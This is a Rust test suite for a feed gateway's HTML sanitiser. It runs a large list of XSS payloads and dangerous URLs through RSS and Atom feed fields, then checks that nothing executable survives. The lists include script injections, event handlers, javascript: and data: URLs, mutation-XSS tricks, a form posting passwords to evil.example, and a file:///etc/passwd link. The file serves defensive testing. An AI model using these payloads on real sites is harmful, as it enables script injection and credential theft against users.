//! Markup that would run something in a reader, in every place where a feed may have markup.
//!
//! What comes out is read by another tokenizer than the one that cleaned it, and held against a
//! list of what is harmless. Titles and names are not looked at: they are plain text (MMSP 6.1),
//! and text may speak of `<script>`.

use std::collections::HashMap;

use html5gum::{Token, Tokenizer};
use mmsp_gateway::convert::{self, Input, Limits, Part};
use mmsp_gateway::model::{SourceUrl, Timestamp};
use mmsp_gateway::normalize::Settings;
use quick_xml::escape::escape;
use serde_json::Value;

/// Elements that do nothing of themselves.
const HARMLESS: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "area",
    "article",
    "aside",
    "audio",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "map",
    "mark",
    "nav",
    "ol",
    "p",
    "picture",
    "pre",
    "q",
    "rp",
    "rt",
    "rtc",
    "ruby",
    "s",
    "samp",
    "small",
    "source",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "video",
    "wbr",
];

/// Attributes that hold an address, which has to be one of the web or of a mailbox.
const ADDRESSES: &[&str] = &["href", "src", "poster"];

/// Attributes that hold words and numbers.
const WORDS: &[&str] = &[
    "align", "alt", "char", "charoff", "colspan", "controls", "coords", "datetime", "dir",
    "headers", "height", "hreflang", "lang", "name", "preload", "rel", "rowspan", "scope", "shape",
    "size", "span", "start", "summary", "title", "type", "valign", "value", "width",
];

fn check_html(html: &str, vector: &str) {
    for token in Tokenizer::new(html) {
        let Ok(token) = token;
        let Token::StartTag(tag) = token else {
            assert!(!matches!(token, Token::Doctype(_) | Token::Comment(_)), "{vector}\n{html}");
            continue;
        };
        let name = String::from_utf8_lossy(&tag.name).into_owned();
        assert!(HARMLESS.contains(&name.as_str()), "<{name}> of {vector}\n{html}");
        for (attribute, value) in &tag.attributes {
            let attribute = String::from_utf8_lossy(attribute).into_owned();
            let value = String::from_utf8_lossy(value).into_owned();
            if ADDRESSES.contains(&attribute.as_str()) {
                let scheme = value.split(':').next().unwrap().to_ascii_lowercase();
                let known = ["http", "https", "mailto", "tel"].contains(&scheme.as_str());
                assert!(known && value.contains(':'), "{attribute}={value} of {vector}\n{html}");
            } else {
                let known = WORDS.contains(&attribute.as_str());
                assert!(known, "{attribute} of {vector}\n{html}");
            }
        }
    }
}

/// No value that is an address runs anything. Ids are names, and `original` is what it was.
fn check_addresses(value: &Value, vector: &str) {
    match value {
        Value::String(text) => {
            let shown = text;
            let text: String =
                text.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
            let text = text.to_ascii_lowercase();
            let runs = ["javascript:", "vbscript:", "data:", "blob:", "file:", "livescript:"];
            assert!(!runs.iter().any(|scheme| text.starts_with(scheme)), "{shown} of {vector}");
        }
        Value::Array(values) => values.iter().for_each(|value| check_addresses(value, vector)),
        Value::Object(members) => members
            .iter()
            .filter(|(name, _)| {
                !["id", "original", "title", "description"].contains(&name.as_str())
            })
            .for_each(|(name, value)| check_addresses(value, &format!("{name} of {vector}"))),
        _ => {}
    }
}

/// The items of a feed, as a manifest has them.
fn items(feed: &str, what: &str) -> Vec<Value> {
    let url = SourceUrl::parse("https://feed.example/feed.xml").unwrap();
    let (limits, settings) = (Limits::default(), Settings::default());
    let input = Input {
        body: feed.as_bytes(),
        content_type: None,
        complete: true,
        url: &url,
        first_url: &url,
        was_podcast: false,
        limits: &limits,
        settings: &settings,
        part: Part::Current,
    };
    let text = convert::decode(&input).unwrap();
    let reading = text.read(&input).unwrap_or_else(|error| panic!("{what}: {error}"));
    let conversion = reading.normalize(&HashMap::new(), Timestamp::EPOCH);
    let feed = serde_json::to_value(&conversion.feed).unwrap();
    check_addresses(&feed, what);
    conversion.changed.iter().map(|item| serde_json::to_value(&item.item).unwrap()).collect()
}

fn cdata(text: &str) -> String {
    format!("<![CDATA[{}]]>", text.replace("]]>", "]]]]><![CDATA[>"))
}

#[test]
fn no_known_vector_of_markup_survives_in_any_place() {
    assert!(MARKUP.len() >= 100, "{}", MARKUP.len());
    for vector in MARKUP {
        let (escaped, marked) = (escape(*vector), cdata(vector));
        let twice = escape(escaped.as_ref());
        let rss = |fields: String| {
            format!(
                "<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" \
                 xmlns:media=\"http://search.yahoo.com/mrss/\" \
                 xmlns:itunes=\"http://www.itunes.com/dtds/podcast-1.0.dtd\"><channel>\
                 <title>{escaped}</title><description>{escaped}</description>\
                 <item><guid>urn:x:1</guid>{fields}</item></channel></rss>"
            )
        };
        let atom = |fields: String| {
            format!(
                "<feed xmlns=\"http://www.w3.org/2005/Atom\"><id>urn:x:f</id>\
                 <title type=\"html\">{escaped}</title><subtitle type=\"html\">{escaped}</subtitle>\
                 <entry><id>urn:x:1</id>{fields}</entry></feed>"
            )
        };
        for feed in [
            rss(format!("<title>{escaped}</title><description>{escaped}</description>")),
            rss(format!("<title>{marked}</title><description>{marked}</description>")),
            rss(format!("<title>{twice}</title><description>{twice}</description>")),
            rss(format!("<title>T</title><content:encoded>{marked}</content:encoded>")),
            rss(format!(
                "<title>T</title><media:description type=\"html\">{escaped}</media:description>"
            )),
            rss(format!("<title>T</title><itunes:summary>{escaped}</itunes:summary>")),
            rss(format!("<title>T</title><description>words <![CDATA[{}</description>", marked)),
            atom(format!(
                "<title type=\"html\">{escaped}</title><content type=\"html\">{escaped}</content>"
            )),
            atom(format!("<title>T</title><summary type=\"html\">{marked}</summary>")),
            atom(format!(
                "<title>T</title><content type=\"xhtml\">\
                 <div xmlns=\"http://www.w3.org/1999/xhtml\">{vector}</div></content>"
            )),
        ] {
            for item in items(&feed, vector) {
                check_html(item["description"].as_str().unwrap_or_default(), vector);
                check_addresses(&item, vector);
            }
        }
    }
}

#[test]
fn no_address_of_a_feed_runs_anything() {
    for address in ADDRESSES_THAT_RUN {
        let escaped = escape(*address);
        let rss = format!(
            "<rss version=\"2.0\" xmlns:atom=\"http://www.w3.org/2005/Atom\" \
             xmlns:media=\"http://search.yahoo.com/mrss/\" \
             xmlns:podcast=\"https://podcastindex.org/namespace/1.0\" \
             xmlns:itunes=\"http://www.itunes.com/dtds/podcast-1.0.dtd\"><channel>\
             <title>T</title><link>{escaped}</link><image><url>{escaped}</url></image>\
             <itunes:image href=\"{escaped}\"/><atom:link rel=\"self\" href=\"{escaped}\"/>\
             <podcast:funding url=\"{escaped}\">F</podcast:funding>\
             <item><guid isPermaLink=\"true\">{escaped}</guid><title>A</title>\
             <link>{escaped}</link><comments>{escaped}</comments>\
             <enclosure url=\"{escaped}\" type=\"audio/mpeg\" length=\"1\"/>\
             <media:content url=\"{escaped}\" medium=\"video\"/>\
             <media:thumbnail url=\"{escaped}\"/><itunes:image href=\"{escaped}\"/>\
             <podcast:person href=\"{escaped}\" img=\"{escaped}\">P</podcast:person>\
             <podcast:transcript url=\"{escaped}\" type=\"text/vtt\"/>\
             <podcast:chapters url=\"{escaped}\" type=\"application/json+chapters\"/>\
             <podcast:license url=\"{escaped}\">L</podcast:license>\
             <source url=\"{escaped}\">S</source></item></channel></rss>"
        );
        let atom = format!(
            "<feed xmlns=\"http://www.w3.org/2005/Atom\"><id>urn:x:f</id><title>T</title>\
             <icon>{escaped}</icon><logo>{escaped}</logo><link href=\"{escaped}\"/>\
             <author><name>N</name><uri>{escaped}</uri></author>\
             <entry><id>{escaped}</id><title>A</title><link href=\"{escaped}\"/>\
             <link rel=\"enclosure\" href=\"{escaped}\" type=\"audio/mpeg\"/>\
             <link rel=\"canonical\" href=\"{escaped}\"/><link rel=\"license\" href=\"{escaped}\"/>\
             <content src=\"{escaped}\" type=\"video/mp4\"/></entry></feed>"
        );
        for feed in [rss, atom] {
            for item in items(&feed, address) {
                check_addresses(&item, address);
            }
        }
    }
}

const ADDRESSES_THAT_RUN: &[&str] = &[
    "javascript:run()",
    "JavaScript:run()",
    " javascript:run()",
    "\tjavascript:run()",
    "java\tscript:run()",
    "java\nscript:run()",
    "javascript://feed.example/%0arun()",
    "javascript:https://feed.example/",
    "jav&#x09;ascript:run()",
    "javascript&colon;run()",
    "\u{1}javascript:run()",
    "\u{a0}javascript:run()",
    "view-source:javascript:run()",
    "feed:javascript:run()",
    "vbscript:run()",
    "livescript:run()",
    "data:text/html,<script>run()</script>",
    "data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=run()>",
    "file:///etc/passwd",
    "blob:https://feed.example/1",
    "https:javascript:run()",
    "//feed.example/\u{0}javascript:run()",
    "https://feed.example/\"onerror=\"run()",
    "https://feed.example/'><script>run()</script>",
];

const MARKUP: &[&str] = &[
    // Scripts, in all their spellings.
    "<script>run()</script>",
    "<SCRIPT>run()</SCRIPT>",
    "<ScRiPt>run()</sCrIpT>",
    "<script src=//evil.example/a.js></script>",
    "<script/src=//evil.example/a.js></script>",
    "<script\n>run()</script\n>",
    "<script\u{c}>run()</script>",
    "<script x>run()</script x>",
    "<script>run()",
    "<script",
    "<<script>run()//<</script>",
    "<scr<script>ipt>run()</scr</script>ipt>",
    "<scr\u{0}ipt>run()</script>",
    "<script type=module>import('//evil.example')</script>",
    "<script type=\"text/vbscript\">run</script>",
    "<script>/*</script><script>*/run()</script>",
    "</script><script>run()</script>",
    "<script><!--</script>--><img src=x onerror=run()>",
    "<%00script>run()</script>",
    "%3Cscript%3Erun()%3C/script%3E<script>run()</script>",
    // Events.
    "<img src=x onerror=run()>",
    "<img src=x onerror=\"run()\">",
    "<img src=x onerror='run()'>",
    "<img src=x onerror=`run()`>",
    "<img src=x:x onerror=run()//",
    "<img/src=x/onerror=run()>",
    "<img src=x\u{c}onerror=run()>",
    "<IMG SRC=x ONERROR=run()>",
    "<img src=\"x\"onerror=\"run()\">",
    "<img src='x'a=''onerror=run()>",
    "<img src=x oneonerrorrror=run()>",
    "<img src onerror /\" '\"= alt=run()//\">",
    "<img title=\"a>b\" src=x onerror=run()>",
    "<img title='--><img src=x onerror=run()>'>",
    "<a onmouseover=run()>a</a>",
    "<a href=# onclick=run()>a</a>",
    "<a href=\"https://ok.example/\" onfocus=run() autofocus>a</a>",
    "<body onload=run()>",
    "<body background=javascript:run()>",
    "<div onpointerrawupdate=run()>a</div>",
    "<details open ontoggle=run()>a</details>",
    "<marquee onstart=run()>a</marquee>",
    "<video onloadstart=run()><source></video>",
    "<video src=x onerror=run()></video>",
    "<video><source onerror=run()></video>",
    "<audio src=x onerror=run()>",
    "<video poster=javascript:run()>a</video>",
    "<p style=\"animation-name:x\" onanimationstart=run()>a</p>",
    "<p onwheel\n=\nrun()>a</p>",
    "<input autofocus onfocus=run()>",
    "<select onfocus=run() autofocus></select>",
    "<textarea onfocus=run() autofocus></textarea>",
    "<keygen onfocus=run() autofocus>",
    "<x onclick=run()>a</x>",
    "<xss contenteditable onbeforeinput=run()>a</xss>",
    "<p id=x tabindex=1 onfocus=run()>a</p>",
    // Addresses.
    "<a href=javascript:run()>a</a>",
    "<a href=\" javascript:run()\">a</a>",
    "<a href=\"JaVaScRiPt:run()\">a</a>",
    "<a href=\"java\tscript:run()\">a</a>",
    "<a href=\"java\nscript:run()\">a</a>",
    "<a href=\"\u{1}javascript:run()\">a</a>",
    "<a href=\"&#106;avascript:run()\">a</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;run()\">a</a>",
    "<a href=\"&#0000106avascript:run()\">a</a>",
    "<a href=\"javascript&colon;run()\">a</a>",
    "<a href=\"java&Tab;script&NewLine;:run()\">a</a>",
    "<a href=\"javascript://x.example/%0Arun()\">a</a>",
    "<a href=\"vbscript:run\">a</a>",
    "<a href=\"data:text/html,<script>run()</script>\">a</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg\">a</a>",
    "<a href=\"feed:javascript:run()\">a</a>",
    "<a href=\"view-source:javascript:run()\">a</a>",
    "<a href=\"//x.example\" target=_blank rel=opener>a</a>",
    "<a href='x' href='javascript:run()'>a</a>",
    "<a href=javascript:run() href=x>a</a>",
    "<area href=javascript:run()>",
    "<img src=javascript:run()>",
    "<img src=\"data:image/svg+xml,<svg onload=run()>\">",
    "<img srcset=\"javascript:run() 1x\">",
    "<img src=x longdesc=javascript:run()>",
    "<img lowsrc=javascript:run() dynsrc=javascript:run()>",
    "<blockquote cite=javascript:run()>a</blockquote>",
    "<q cite=\"data:text/html,a\">a</q>",
    "<table background=javascript:run()><tr><td background=javascript:run()>a</table>",
    "<audio src=javascript:run() controls></audio>",
    "<video><source src=javascript:run() type=video/mp4></video>",
    "<picture><source srcset=javascript:run()><img src=x></picture>",
    "<a ping=https://evil.example/ href=https://ok.example/>a</a>",
    // Other documents in this one.
    "<iframe src=javascript:run()></iframe>",
    "<iframe srcdoc=\"<script>run()</script>\"></iframe>",
    "<iframe src=https://www.youtube.com/embed/x onload=run()></iframe>",
    "<iframe src=\"https://www.youtube.com/embed/&quot;><script>run()</script>\"></iframe>",
    "<iframe src=https://www.youtube.com.evil.example/embed/x></iframe>",
    "<iframe title=\"<img src=x onerror=run()>\" src=https://player.vimeo.com/video/1></iframe>",
    "<iframe src=//player.vimeo.com\\@evil.example/></iframe>",
    "<iframe/onload=run()>",
    "<frameset onload=run()><frame src=javascript:run()></frameset>",
    "<object data=javascript:run()></object>",
    "<object data=\"data:text/html,<script>run()</script>\" type=text/html></object>",
    "<object><param name=src value=javascript:run()></object>",
    "<embed src=javascript:run()>",
    "<embed src=\"data:image/svg+xml,<svg onload=run()>\">",
    "<applet code=x codebase=https://evil.example/></applet>",
    "<portal src=javascript:run()></portal>",
    "<fencedframe src=x></fencedframe>",
    // What speaks for the page.
    "<base href=javascript:run()//>",
    "<base href=https://evil.example/><a href=x>a</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:run()\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<meta charset=utf-7>+ADw-script+AD4-run()+ADw-/script+AD4-",
    "<meta http-equiv=Content-Security-Policy content=\"\">",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=import href=data:text/html,a>",
    "<link rel=manifest href=//evil.example/>",
    "<title><img src=x onerror=run()></title>",
    "<html manifest=//evil.example/><body onload=run()>",
    "<!doctype html [<!entity x '<script>run()</script>'>]>&x;",
    // Styles.
    "<style>*{background:url(javascript:run())}</style>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style><img src=\"</style><img src=x onerror=run()>\">",
    "<p style=\"background:url(javascript:run())\">a</p>",
    "<p style=\"width:expression(run())\">a</p>",
    "<p style=\"x:expr/**/ession(run())\">a</p>",
    "<p style=\"behavior:url(#x)\">a</p>",
    "<p style=\"-moz-binding:url(//evil.example/x#a)\">a</p>",
    "<p style=\"position:fixed;inset:0;z-index:9999\">a</p>",
    "<p class=overlay id=login>a</p>",
    // Forms.
    "<form action=javascript:run()><input type=submit></form>",
    "<form action=https://evil.example/><input name=password></form>",
    "<form><button formaction=javascript:run()>a</button></form>",
    "<button form=x formaction=javascript:run()>a</button>",
    "<input type=image src=x formaction=javascript:run()>",
    "<isindex action=javascript:run() type=image>",
    "<form id=x><input name=attributes><input name=parentNode></form>",
    "<label><input type=password></label>",
    // Other vocabularies.
    "<svg onload=run()>",
    "<svg/onload=run()>",
    "<svg><script>run()</script></svg>",
    "<svg><script xlink:href=data:,run()></script></svg>",
    "<svg><a xlink:href=javascript:run()><text>a</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:run()></svg>",
    "<svg><set attributeName=onmouseover to=run()></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=run()>#x\"></svg>",
    "<svg><foreignObject><iframe src=javascript:run()></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=run()></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=run()>\">",
    "<svg><desc><![CDATA[</desc><script>run()</script>]]></svg>",
    "<math href=javascript:run()>a</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=run()>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=run()></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:run()>a</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=run()>",
    // Parsers that disagree.
    "<noscript><p title=\"</noscript><img src=x onerror=run()>\">",
    "<template><script>run()</script></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=run()>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=run()>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=run()>\"></noembed>",
    "<noframes><p id=\"</noframes><img src=x onerror=run()>\">",
    "<plaintext><img src=x onerror=run()>",
    "<listing>&lt;img src=x onerror=run()&gt;</listing>",
    "<table><td><script>run()</script></table>",
    "<select><style><img src=x onerror=run()></style></select>",
    "<!--><img src=x onerror=run()>-->",
    "<!---><img src=x onerror=run()>",
    "<!-- --!><img src=x onerror=run()> -->",
    "<!--[if gte IE 4]><script>run()</script><![endif]-->",
    "<comment><img src=\"</comment><img src=x onerror=run()>\">",
    "<![CDATA[<img src=x onerror=run()>]]>",
    "<?xml-stylesheet href=\"javascript:run()\"?><p>a</p>",
    "<?php echo 1 ?><img src=x onerror=run()>",
    "<!x '><img src=x onerror=run()>",
    "</p/><img src=x onerror=run()>",
    "<p title=\"`\">`<img src=x onerror=run()></p>",
    "&lt;script&gt;run()&lt;/script&gt;",
    "&#60;img src=x onerror=run()&#62;",
    "&amp;lt;img src=x onerror=run()&amp;gt;",
    "<a <img src=x onerror=run()>",
    "<a href=\"x\"><b title='\"><img src=x onerror=run()>'>a</b></a>",
    "<img src=\"x\" width=\"1\" alt=\"><script>run()</script>\">",
    "<IMG SRC=\"jav&#x0D;ascript:run()\">",
    "\u{feff}<script>run()</script>",
    "<\u{2028}script>run()</script><b\u{2028}onclick=run()>a</b>",
    "＜script＞run()＜/script＞<b onclick=run()>a</b>",
    "<bdo dir=rtl onclick=run()>\u{202e}a</bdo>",
    "<ruby oncopy=run()>a<rt>b</ruby>",
];
